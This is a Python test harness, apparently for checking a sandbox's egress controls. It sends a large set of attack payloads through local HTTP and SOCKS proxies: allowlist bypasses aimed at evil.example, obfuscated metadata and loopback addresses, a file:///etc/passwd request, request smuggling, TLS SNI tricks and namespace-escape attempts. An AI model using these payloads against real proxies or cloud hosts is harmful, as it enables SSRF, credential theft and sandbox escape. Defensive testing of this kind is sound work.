# Attacks on the network of the box that runs this. Reads a JSON list of names from stdin:
# NAME is an attack of ROWS, "NAME+" its control, which must succeed. Prints a line of JSON for
# each: its name, and what it has read or why it could not. A server that was reached says
# REACHED.
import ctypes, fcntl, json, os, re, select, signal, socket, ssl, struct, subprocess, sys, time

GOOD, GOOD4, GOOD6 = "good.example", "45.33.0.1", "2600:3c00::1"
EVIL, EVIL4, EVIL6 = "evil.example", "45.66.0.1", "2600:dead::1"
PRIVATE, METADATA, HOST4, HOST6 = "10.0.0.5", "169.254.169.254", "93.184.1.2", "2606:4700:1::2"
PORTS = {"3128": ("127.0.0.1", 3128), "1080": ("127.0.0.1", 1080)}
socket.setdefaulttimeout(8)


class Refused(Exception):
    pass


def dial(proxy="3128"):
    return socket.create_connection(PORTS[proxy])


def drain(s, limit=1 << 20):
    """all that arrives until the end, or until nothing has for a moment"""
    data = b""
    try:
        while len(data) < limit:
            more = s.recv(65536)
            if not more:
                break
            data += more
    except (TimeoutError, OSError):
        pass
    return data


def text(data):
    return data.decode("utf-8", "replace")


def raw(data, proxy="3128", wait=3):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    s = dial(proxy)
    s.settimeout(wait)
    s.sendall(data)
    return text(drain(s))


def head(s):
    data = b""
    while not data.endswith(b"\r\n\r\n"):
        b = s.recv(1)
        if not b:
            break
        data += b
    return text(data)


def get(s, host, path="/", extra=""):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{extra}\r\n".encode())
    return text(drain(s))


def connect(authority, host=None, proxy="3128"):
    s = dial(proxy)
    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {host or authority}\r\n\r\n".encode("utf-8", "surrogateescape"))
    answer = head(s)
    if " 200 " not in answer[:20]:
        raise Refused(answer + text(drain(s)))
    return s


def socks(kind, address, port, command=1, version=5, methods=b"\0"):
    s = dial("1080")
    s.sendall(bytes([5, len(methods)]) + methods)
    answer = s.recv(2)
    if answer != b"\5\0":
        raise Refused(f"method {answer!r}")
    s.sendall(bytes([version, command, 0, kind]) + address + struct.pack(">H", port))
    answer = s.recv(10)
    if len(answer) < 2 or answer[1] != 0:
        raise Refused(f"reply {answer!r}")
    return s


def socks_name(name, port):
    if isinstance(name, str):
        name = name.encode("utf-8", "surrogateescape")
    return socks(3, bytes([len(name)]) + name, port)


def tls(s, name, alpn=None):
    context = ssl._create_unverified_context()
    context.check_hostname = False
    if alpn:
        context.set_alpn_protocols(alpn)
    return context.wrap_socket(s, server_hostname=name)


# The ways to ask for a host. Each gets the text of a host.
def by_url(host):
    return raw(f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")


def by_url_10(host):
    return raw(f"GET http://{host}/ HTTP/1.0\r\n\r\n")


def by_connect(host):
    return get(connect(host + ":80"), host)


def by_connect_tls(host):
    s = connect(host + ":443")
    name = host.strip("[]").rstrip(".")
    return get(tls(s, name if re.fullmatch(r"[\x21-\x7e]+", name) else GOOD), host)


def by_connect_raw(host):
    s = connect(host + ":7000")
    return text(drain(s))


def by_socks(host):
    return get(socks_name(host.strip("[]"), 80), host)


WAYS = {"url": by_url, "url 1.0": by_url_10, "connect": by_connect, "connect tls": by_connect_tls, "socks": by_socks}

ROWS = {}  # name: (attack, control or None)


def row(name, attack, control=None):
    assert name not in ROWS, name
    ROWS[name] = (attack, control)


def hosts(kind, good, forms, ways=WAYS):
    for way, ask in ways.items():
        for form, host in forms.items():
            row(f"{kind} {way}: {form}", lambda ask=ask, host=host: ask(host), lambda ask=ask: ask(good))


# --- names, with a profile that allows good.example and *.wild.example -------------------
# Each leads to the evil server if it gets through: the resolver knows every name.
hosts("name", GOOD, {
    "another": EVIL, "case": "EVIL.Example", "trailing dot": "evil.example.", "allowed as prefix": "good.example.evil.example", "allowed as suffix": "xgood.example",
    "below allowed": "www.good.example", "top of wildcard": "wild.example", "wildcard look-alike": "xwild.example", "denied below wildcard": "denied.wild.example",
    "denied, other case": "DENIED.wild.EXAMPLE.", "user before": "good.example@evil.example", "user and password": "good.example:80@evil.example", "percent": "good.example%2eevil.example",
    "NUL": "good.example\0.evil.example", "percent NUL": "evil.example%00.good.example", "space": "good.example evil.example", "tab": "evil.example\tgood.example", "cyrillic": "g\u043eod.example",
    "cyrillic as A-label": "xn--god-8cd.example", "ideographic dot": "evil\u3002example", "zero width": "go\u200bod.example", "bad A-label": "xn--.good.example", "slash": "evil.example/.good.example",
    "backslash": "evil.example\\.good.example", "fragment": "evil.example#.good.example", "query": "evil.example?.good.example", "two dots": "evil..example", "wildcard itself": "*.wild.example",
    "underscore": "_evil.example", "soft hyphen": "go\u00adod.example", "full width": "\uff45vil.example", "empty": "", "local": "localhost", "one label": "evil",
    "literal of allowed": GOOD4, "literal of allowed 6": f"[{GOOD6}]", "literal of evil": EVIL4, "literal of evil 6": f"[{EVIL6}]",
})
hosts("canonical", "GOOD.Example.", {"again": EVIL})

# --- addresses, with a profile that allows everything that is public ---------------------
FORMS = {
    "metadata": METADATA, "metadata, trailing dot": METADATA + ".", "metadata hex": "0xa9fea9fe", "metadata dotted hex": "0xa9.0xfe.0xa9.0xfe", "metadata octal": "0251.0376.0251.0376",
    "metadata decimal": "2852039166", "metadata short": "169.254.43518", "metadata mapped": "[::ffff:169.254.169.254]", "metadata mapped hex": "[::ffff:a9fe:a9fe]",
    "metadata compatible": "[::169.254.169.254]", "metadata NAT64": "[64:ff9b::a9fe:a9fe]", "metadata 6to4": "[2002:a9fe:a9fe::1]", "metadata overflow": "425.510.425.510",
    "loopback": "127.0.0.1", "loopback short": "127.1", "loopback zero": "0", "loopback octal": "0177.0.0.1", "loopback hex": "0x7f000001", "loopback decimal": "2130706433", "loopback other": "127.127.127.127",
    "unspecified": "0.0.0.0", "loopback 6": "[::1]", "unspecified 6": "[::]", "loopback mapped": "[::ffff:127.0.0.1]", "loopback long": "[0:0:0:0:0:0:0:1]", "loopback full width": "\uff11\uff12\uff17.0.0.1",
    "circled digits": "\u2460\u2461\u2466.0.0.1", "private": PRIVATE, "private octal": "012.0.0.5", "private mapped": "[::ffff:10.0.0.5]", "private 172": "172.16.0.5", "private 192": "192.168.0.5", "CGNAT": "100.64.0.5",
    "zone": "[fe80::1%25lo]", "zone raw": "[fe80::1%lo]", "public with zone": f"[{GOOD6}%25lo]", "link-local": "[fe80::5]", "ULA": "[fd00::5]", "multicast": "224.0.0.1", "multicast 6": "[ff02::1]", "broadcast": "255.255.255.255",
    "the host": HOST4, "the host 6": f"[{HOST6}]", "IPv4 in brackets": "[10.0.0.5]", "IPvFuture": "[v1.fe80::a+en1]", "no brackets": "::1", "user before": f"{GOOD}@{PRIVATE}",
    "name of private": "private.example", "name of metadata": "metadata.example", "name of loopback": "loop.example", "name of loopback 6": "loop6.example", "name of unspecified": "zero.example", "name of the host": "own.example",
    "name of the host 6": "own6.example", "name of mapped": "mapped.example", "name of NAT64": "nat64.example", "name of local NAT64": "nat64local.example", "name of 6to4": "sixtofour.example", "name of Teredo": "teredo.example",
    "name of compatible": "compatible.example", "name of ULA": "ula.example", "name of link-local": "linklocal.example", "name of CGNAT": "cgnat.example", "name of multicast": "multicast.example", "alias of private": "aliasprivate.example",
    "a thousand addresses": "many.example", "localhost": "localhost", "localhost.localdomain": "localhost.localdomain", "ip6-localhost": "ip6-localhost", "box's host name": socket.gethostname(),
}
hosts("address", GOOD4, FORMS, {k: WAYS[k] for k in ("url", "connect", "socks")})
hosts("address", GOOD4, {k: v for k, v in FORMS.items() if "metadata" in k or "loopback" in k}, {"raw port": by_connect_raw})
# A NAT64 address leads where the IPv4 address inside does.
hosts("address inside NAT64", "nat64good.example", {
    "metadata": "[64:ff9b::169.254.169.254]", "loopback": "[64:ff9b::7f00:1]", "unspecified": "[64:ff9b::]", "private": "[64:ff9b::10.0.0.5]", "CGNAT": "[64:ff9b::100.64.0.5]", "multicast": "[64:ff9b::e000:1]",
    "the host": f"[64:ff9b::{HOST4}]", "name of the host": "nat64own.example", "routed": "[64:ff9b::93.184.77.5]", "name of routed": "nat64routed.example", "public, local NAT64": "[64:ff9b:1::2d21:1]", "public, 6to4": "[2002:2d21:1::1]",
})


# --- requests, with the profile of names -------------------------------------------------
def good_url():
    return by_url(GOOD)


def request(data, proxy="3128"):
    return lambda: raw(data, proxy)


for name, data in {
    "Host differs": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n",
    "Host is missing": f"GET http://{EVIL}/ HTTP/1.1\r\n\r\n",
    "two Hosts": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\nHost: {EVIL}\r\n\r\n",
    "Host in other case twice": f"GET http://{GOOD}/ HTTP/1.1\r\nhost: {EVIL}\r\nHOST: {GOOD}\r\n\r\n",
    "Host with space": f"GET http://{GOOD}/ HTTP/1.1\r\nHost : {EVIL}\r\nHost: {GOOD}\r\n\r\n",
    "folded Host": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n {EVIL}\r\n\r\n",
    "folded first line": f"GET http://{GOOD}/ HTTP/1.1\r\n Host: {EVIL}\r\nHost: {GOOD}\r\n\r\n",
    "CR in a header": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\nX: y\rHost: {EVIL}\r\n\r\n",
    "LF only": f"GET http://{EVIL}/ HTTP/1.1\nHost: {GOOD}\n\n",
    "LF in a header": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\nX: y\nHost: {EVIL}\r\n\r\n",
    "CRLF in the URI": f"GET http://{GOOD}/\r\nHost: {EVIL}\r\n HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    "space in the URI": f"GET http://{GOOD}/ http://{EVIL}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    "tab in the URI": f"GET\thttp://{EVIL}/\tHTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "HTTP/0.9": f"GET http://{EVIL}/\r\n",
    "HTTP/1.2": f"GET http://{EVIL}/ HTTP/1.2\r\nHost: {EVIL}\r\n\r\n",
    "HTTP/2 preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "https as absolute URI": f"GET https://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    "ftp": f"GET ftp://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    "file": f"GET file:///etc/passwd HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    "origin form": f"GET / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "authority form with GET": f"GET {EVIL}:80 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "asterisk": f"OPTIONS * HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "port 0": f"GET http://{GOOD}:0/ HTTP/1.1\r\nHost: {GOOD}:0\r\n\r\n",
    "port overflow": f"GET http://{GOOD}:65616/ HTTP/1.1\r\nHost: {GOOD}:65616\r\n\r\n",
    "port of nobody": f"GET http://{GOOD}:8080/ HTTP/1.1\r\nHost: {GOOD}:8080\r\n\r\n",
    "plain http at 443": f"GET http://{GOOD}:443/ HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "TRACE": f"TRACE http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "CONNECT two ports": f"CONNECT {GOOD}:443:80 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT with user": f"CONNECT {GOOD}:443@{EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT with two targets": f"CONNECT {GOOD}:443 {EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT with a path": f"CONNECT {GOOD}:443/../{EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT with a scheme": f"CONNECT https://{EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT, Host differs": f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n",
    "CONNECT, port of Host differs": f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {GOOD}:80\r\n\r\n",
    "CONNECT with a body": f"CONNECT {GOOD}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\nContent-Length: 5\r\n\r\nhello",
    "CONNECT without port": f"CONNECT {EVIL} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "CONNECT, leading zero": f"CONNECT {EVIL}:0443 HTTP/1.1\r\nHost: {EVIL}:0443\r\n\r\n",
    "CONNECT, CRLF": f"CONNECT {EVIL}:443\r\nHost: {GOOD}:443\r\n\r\n",
    "CONNECT, fragment": f"CONNECT {GOOD}:443#@{EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:443\r\n\r\n",
    "connect in small letters": f"connect {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n",
    "SOCKS4": b"\4\1\0\x50" + socket.inet_aton(EVIL4) + b"me\0",
    "SOCKS4a": b"\4\1\0\x50\0\0\0\1me\0evil.example\0",
    "TLS on the proxy's port": b"\x16\3\1\0\5\1\0\0\1\0",
    "PROXY protocol": f"PROXY TCP4 1.2.3.4 {EVIL4} 1 80\r\nGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "empty lines before": f"\r\n\r\nGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
}.items():
    row(f"request: {name}", request(data), good_url)

# Requests for good.example that hide a second one for evil.example: the server must see one
# request, or none. The second one leads nowhere for the proxy, and the server counts.
HIDDEN = f"GET /hidden HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
for name, middle in {
    "CL and TE": f"Content-Length: {len(HIDDEN) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE and CL": f"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n{HIDDEN}",
    "two CLs": f"Content-Length: 0\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "CL list": f"Content-Length: 0, {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "CL +0": f"Content-Length: +0\r\n\r\n{HIDDEN}",
    "CL -1": f"Content-Length: -1\r\n\r\n{HIDDEN}",
    "CL hex": f"Content-Length: 0x0\r\n\r\n{HIDDEN}",
    "CL overflow": f"Content-Length: 18446744073709551616\r\n\r\n{HIDDEN}",
    "TE xchunked": f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE identity": f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE twice": f"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE vertical tab": f"Transfer-Encoding:\vchunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE folded": f"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE space": f"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{HIDDEN}",
    "TE named by Connection": f"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{HIDDEN}",
    "CL named by Connection": f"Connection: Content-Length\r\nContent-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "Host named by Connection": f"Connection: Host\r\nX-Forwarded-Host: {EVIL}\r\n\r\n{HIDDEN}",
    "chunk size overflow": f"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{HIDDEN}",
    "chunk size negative": f"Transfer-Encoding: chunked\r\n\r\n-1\r\n{HIDDEN}",
    "chunk size with 0x": f"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{HIDDEN}",
    "chunk extension": f"Transfer-Encoding: chunked\r\n\r\n0;a=\"\r\n\r\n{HIDDEN}",
    "chunk LF only": f"Transfer-Encoding: chunked\n\n0\n\n{HIDDEN}",
    "trailer": f"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: {EVIL}\r\nContent-Length: 10\r\n\r\n{HIDDEN}",
    "in the body": f"Content-Length: {len(HIDDEN)}\r\n\r\n{HIDDEN}",
    "pipelined": f"\r\n{HIDDEN}",
    "pipelined, absolute": f"\r\nGET http://{EVIL}/hidden HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "pipelined, Host differs": f"\r\nGET http://{GOOD}/hidden HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
    "pipelined CONNECT": f"\r\nCONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n",
    "after Expect": f"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n{HIDDEN}",
    "after Upgrade": f"Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{HIDDEN}",
    "after WebSocket": f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n{HIDDEN}",
}.items():
    row(f"smuggled: {name}", request(f"POST http://{GOOD}/front HTTP/1.1\r\nHost: {GOOD}\r\n{middle}"), good_url)
    row(f"smuggled in a tunnel: {name}", lambda middle=middle: (lambda s: (s.settimeout(3), s.sendall(f"POST /front HTTP/1.1\r\nHost: {GOOD}\r\n{middle}".encode()), text(drain(s)))[2])(connect(GOOD + ":80")),
        lambda: by_connect(GOOD))
row("tunnel to 80: absolute URI of another host", lambda: get(connect(GOOD + ":80"), EVIL, f"http://{EVIL}/"), lambda: by_connect(GOOD))
row("tunnel to 80: Host of another host", lambda: get(connect(GOOD + ":80"), EVIL), lambda: by_connect(GOOD))
row("tunnel to 80: CONNECT in it", lambda: (lambda s: (s.sendall(f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n".encode()), text(drain(s)))[1])(connect(GOOD + ":80")), lambda: by_connect(GOOD))
row("tunnel to 80: TLS", lambda: get(tls(connect(GOOD + ":80"), EVIL), EVIL), lambda: by_connect(GOOD))
row("tunnel to 80: X-Forwarded-Host", lambda: get(connect(GOOD + ":80"), EVIL, "/", f"X-Forwarded-Host: {EVIL}\r\n"), lambda: by_connect(GOOD))
row("tunnel to 80: SMTP", lambda: (lambda s: (s.sendall(b"HELO evil.example\r\n"), text(drain(s)))[1])(connect(GOOD + ":80")), lambda: by_connect(GOOD))
row("tunnel to 80: nothing sent", lambda: (lambda s: (s.settimeout(1), text(drain(s)))[1])(connect(GOOD + ":80")), lambda: by_connect(GOOD))


# --- TLS, with the profile of names ------------------------------------------------------
def hello(name, ech=False, extra=b"", names=None):
    """a ClientHello without its record"""
    listed = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in (names if names is not None else [name.encode()]))
    sni = struct.pack(">HHH", 0, len(listed) + 2, len(listed)) + listed
    groups = struct.pack(">HHHH", 10, 4, 2, 23)
    algorithms = struct.pack(">HHHHH", 13, 6, 4, 0x0403, 0x0804)
    versions = b"\0\x2b\0\3\2\3\3"
    extensions = sni + groups + algorithms + versions + extra
    if ech:
        extensions += struct.pack(">HH", 0xFE0D, 8) + b"\0\0\1\0\1\x42\0\0"
    body = b"\3\3" + os.urandom(32) + b"\0" + struct.pack(">HH", 2, 0xC02B) + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(message, size=16000):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(message[i:i + size])) + message[i:i + size] for i in range(0, len(message), size))


def greet(data, each=None, proxy=connect, host=GOOD):
    """sends a ClientHello, in pieces, and reports whether a server answered it"""
    s = proxy(host + ":443")
    s.settimeout(3)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for i in range(0, len(data), each or len(data)):
        s.sendall(data[i:i + (each or len(data))])
    answer = s.recv(5)
    return "REACHED, it greets" if answer[:1] == b"\x16" else f"answer {answer!r}"


def good_hello():
    return greet(records(hello(GOOD)))


OTHER = "other.example"
row("tls: another name", lambda: greet(records(hello(OTHER))), good_hello)
row("tls: another name, whole", lambda: get(tls(connect(GOOD + ":443"), OTHER), OTHER), lambda: get(tls(connect(GOOD + ":443"), GOOD), GOOD))
row("tls: another name by SOCKS", lambda: get(tls(socks_name(GOOD, 443), OTHER), OTHER), lambda: get(tls(socks_name(GOOD, 443), GOOD), GOOD))
row("tls: another name, h2", lambda: greet(records(hello(OTHER, extra=b"\0\x10\0\5\0\3\2h2"))), lambda: greet(records(hello(GOOD, extra=b"\0\x10\0\5\0\3\2h2"))))
row("tls: another name in single bytes", lambda: greet(records(hello(OTHER)), 1), lambda: greet(records(hello(GOOD)), 1))
row("tls: another name in small records", lambda: greet(records(hello(OTHER), 10)), lambda: greet(records(hello(GOOD), 10)))
row("tls: another name in records of one byte", lambda: greet(records(hello(OTHER), 1)), good_hello)
row("tls: empty records between", lambda: greet(b"\x16\3\1\0\0" + records(hello(OTHER))), good_hello)
row("tls: no name", lambda: greet(records(hello(GOOD, names=[]))), good_hello)
row("tls: no extension", lambda: greet(records((lambda b: b"\1" + struct.pack(">I", len(b))[1:] + b)(b"\3\3" + os.urandom(32) + b"\0\0\2\xc0\x2b\1\0"))), good_hello)
row("tls: two names", lambda: greet(records(hello(GOOD, names=[GOOD.encode(), OTHER.encode()]))), good_hello)
row("tls: two name extensions", lambda: greet(records(hello(GOOD, extra=struct.pack(">HHHBH", 0, len(OTHER) + 5, len(OTHER) + 3, 0, len(OTHER)) + OTHER.encode()))), good_hello)
row("tls: name with NUL", lambda: greet(records(hello("", names=[b"good.example\0.other.example"]))), good_hello)
row("tls: encrypted hello", lambda: greet(records(hello(OTHER, ech=True))), good_hello)
row("tls: an address as name", lambda: greet(records(hello(GOOD4))), good_hello)
row("tls: name below", lambda: greet(records(hello("www." + GOOD))), good_hello)
row("tls: second hello after the first", lambda: greet(records(hello(OTHER) + hello(GOOD))), good_hello)
row("tls: alert first", lambda: greet(b"\x15\3\1\0\2\1\0" + records(hello(OTHER))), good_hello)
row("tls: SSL 2", lambda: greet(b"\x80\x2e\1\0\2\0\x15\0\0\0\x10" + os.urandom(40)), good_hello)
row("tls: plain HTTP", lambda: get(connect(GOOD + ":443"), GOOD), good_hello)
row("tls: SSH", lambda: (lambda s: (s.sendall(b"SSH-2.0-x\r\n"), text(drain(s)))[1])(connect(GOOD + ":443")), good_hello)
row("tls: nothing sent", lambda: (lambda s: (s.settimeout(1), text(drain(s)))[1])(connect(GOOD + ":443")), good_hello)

# --- SOCKS, with the profile of names ----------------------------------------------------
good_socks = lambda: by_socks(GOOD)
row("socks: address of an allowed name", lambda: get(socks(1, socket.inet_aton(GOOD4), 80), GOOD), good_socks)
row("socks: IPv6 address of an allowed name", lambda: get(socks(4, socket.inet_pton(socket.AF_INET6, GOOD6), 80), GOOD), good_socks)
row("socks: mapped address", lambda: get(socks(4, socket.inet_pton(socket.AF_INET6, "::ffff:" + EVIL4), 80), GOOD), good_socks)
row("socks: BIND", lambda: text(drain(socks(1, socket.inet_aton(EVIL4), 80, command=2))), good_socks)
row("socks: UDP ASSOCIATE", lambda: text(drain(socks(1, socket.inet_aton("0.0.0.0"), 0, command=3))), good_socks)
row("socks: RESOLVE", lambda: text(drain(socks(3, b"\x0cevil.example", 80, command=0xF0))), good_socks)
row("socks: only with password", lambda: socks(3, b"\x0cevil.example", 80, methods=b"\2") and "", good_socks)
row("socks: GSSAPI", lambda: socks(3, b"\x0cevil.example", 80, methods=b"\1") and "", good_socks)
row("socks: version 4 inside", lambda: socks(3, b"\x0cevil.example", 80, version=4) and "", good_socks)
row("socks: empty name", lambda: socks(3, b"\0", 80) and "", good_socks)
row("socks: long name", lambda: socks(3, b"\xff" + b"a" * 255, 80) and "", good_socks)
row("socks: port 0", lambda: socks_name(GOOD, 0) and "", good_socks)
row("socks: address type 2", lambda: socks(2, b"\x0cevil.example", 80) and "", good_socks)
row("socks: raw to another port", lambda: text(drain(socks_name(GOOD, 7000))), lambda: text(drain(socks_name("raw.example", 7000))))
row("socks: other site at tunnel to 80", lambda: get(socks_name(GOOD, 80), OTHER), good_socks)
row("http on the SOCKS port: another", lambda: raw(f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n", "1080"), lambda: raw(f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\nConnection: close\r\n\r\n", "1080"))

row("rebinding alone", lambda: rebind_new(), lambda: by_connect_raw(GOOD))

# --- ports ------------------------------------------------------------------------------
for port in (25, 465, 587, 22, 53, 853, 8080, 3128, 7000):
    for way, ask in {"connect": lambda host, port: text(drain(connect(f"{host}:{port}"))), "socks": lambda host, port: text(drain(socks_name(host, port))),
                     "url": lambda host, port: raw(f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n")}.items():
        row(f"port {way}: {port}", lambda ask=ask, port=port: ask(GOOD, port), lambda ask=ask, way=way: ask("raw.example", 7000) if way != "url" else good_url())
for port in (25, 465, 587):
    for host in (GOOD4, GOOD, f"[{GOOD6}]"):
        row(f"smtp: {host} {port}", lambda host=host, port=port: text(drain(connect(f"{host}:{port}"))), lambda: text(drain(connect(GOOD4 + ":22"))))
row("dns: DoH by name", lambda: get(tls(connect("dns.google:443"), "dns.google"), "dns.google", "/dns-query"), good_hello)
row("dns: DoH by address", lambda: get(tls(connect("9.9.9.9:443"), "dns.google"), "dns.google"), good_hello)
row("dns: over TCP", lambda: text(drain(connect("9.9.9.9:53"))), good_hello)
row("dns: over TLS", lambda: text(drain(connect("9.9.9.9:853"))), good_hello)


# --- around the proxy, with any profile ----------------------------------------------------
def tcp(address, port, family=socket.AF_INET):
    s = socket.socket(family)
    s.connect((address, port))
    return get(s, "direct")


def udp(address, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1", (address, port))
    return "REACHED " + repr(s.recv(100))


def icmp(kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    s.settimeout(1)
    s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (EVIL4, 0))
    return "REACHED " + repr(s.recv(100))


def fastopen():
    s = socket.socket()
    s.settimeout(1)
    s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (EVIL4, 80))
    return text(drain(s))


def mptcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.connect((EVIL4, 80))
    return get(s, "direct")


def bound():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, 25, b"up0\0")  # SO_BINDTODEVICE
    s.connect((EVIL4, 80))
    return get(s, "direct")


def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0boxd-test-network")
    return text(drain(s))


def netlink(kind, payload):
    """sends a request for a change of the network, and wants to be told that it was made"""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(struct.pack("=IHHII", 16 + len(payload), kind, 1 | 4 | 0x400 | 0x200, 1, 0) + payload)  # request, ack, create, exclusive
    answer = s.recv(4096)
    error = struct.unpack_from("=i", answer, 16)[0]
    if error:
        raise OSError(-error, os.strerror(-error))
    return "REACHED a change of the network"


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)


libc = ctypes.CDLL(None, use_errno=True)


def setns(path):
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, 0x40000000):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return tcp(EVIL4, 80)


def unshared():
    if libc.unshare(0x10000000 | 0x40000000):  # user and network namespace
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return tcp(EVIL4, 80)


def opened(path):
    fd = os.open(path, os.O_RDWR)
    request = struct.pack("16sH", b"tun7", 1 | 0x1000)
    fcntl.ioctl(fd, 0x400454CA, request)
    return "REACHED an interface"


def packet(kind):
    s = socket.socket(socket.AF_PACKET, kind, socket.htons(3))
    s.bind(("lo", 0))
    return "REACHED packets"


def vsock():
    s = socket.socket(40, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect((2, 22))
    return "REACHED the hypervisor"


def interfaces():
    names = [name for _, name in socket.if_nameindex()]
    routes = open("/proc/net/route").read().splitlines()[1:]
    return "REACHED more than lo: " + repr((names, routes)) if names != ["lo"] or routes else "lo alone"


def lookup():
    return "REACHED a name server: " + repr(socket.getaddrinfo(GOOD, 80))


LO = socket.if_nametoindex("lo")
for name, attack in {
    "TCP": lambda: tcp(EVIL4, 80), "TCP to an allowed address": lambda: tcp(GOOD4, 80), "TCP 6": lambda: tcp(EVIL6, 80, socket.AF_INET6), "TCP mapped": lambda: tcp("::ffff:" + EVIL4, 80, socket.AF_INET6),
    "TCP to the host": lambda: tcp(HOST4, 9000), "TCP to metadata": lambda: tcp(METADATA, 80), "TCP to the host's loopback service": lambda: tcp("127.0.0.1", 9000), "TCP to DNS": lambda: tcp("9.9.9.9", 53),
    "UDP DNS": lambda: udp("9.9.9.9", 53), "UDP 443": lambda: udp(EVIL4, 443), "UDP 6": lambda: udp(EVIL6, 443, socket.AF_INET6), "UDP multicast": lambda: udp("224.0.0.251", 5353), "UDP NTP": lambda: udp(EVIL4, 123),
